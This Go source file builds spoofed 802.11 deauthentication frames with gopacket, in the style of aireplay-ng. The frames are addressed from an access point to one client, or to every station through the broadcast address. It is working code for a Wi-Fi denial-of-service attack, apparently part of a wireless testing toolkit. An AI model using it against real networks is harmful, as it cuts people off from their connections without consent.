package dot11

import (
	"encoding/binary"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// ReasonClass3FromNonAssoc is the reason code aireplay-ng uses by default.
const ReasonClass3FromNonAssoc = layers.Dot11Reason(7)

var BroadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// DeauthFiller builds deauthentication frames sent by the access point to a client.
type DeauthFiller struct {
	bssid  net.HardwareAddr
	client net.HardwareAddr
	reason layers.Dot11Reason
}

// NewDeauthFiller creates a filler of deauthentication frames.
// A nil client deauthenticates every station of bssid.
func NewDeauthFiller(bssid, client net.HardwareAddr, reason layers.Dot11Reason) *DeauthFiller {
	if client == nil {
		client = BroadcastMAC
	}
	return &DeauthFiller{bssid: bssid, client: client, reason: reason}
}

func (f *DeauthFiller) Fill(buf gopacket.SerializeBuffer, seq uint16) error {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtDeauthentication,
		DurationID:     0x013a,
		Address1:       f.client,
		Address2:       f.bssid,
		Address3:       f.bssid,
		SequenceNumber: seq,
	}
	body := make([]byte, 2)
	binary.LittleEndian.PutUint16(body, uint16(f.reason))
	return gopacket.SerializeLayers(buf, gopacket.SerializeOptions{}, dot11, gopacket.Payload(body))
}
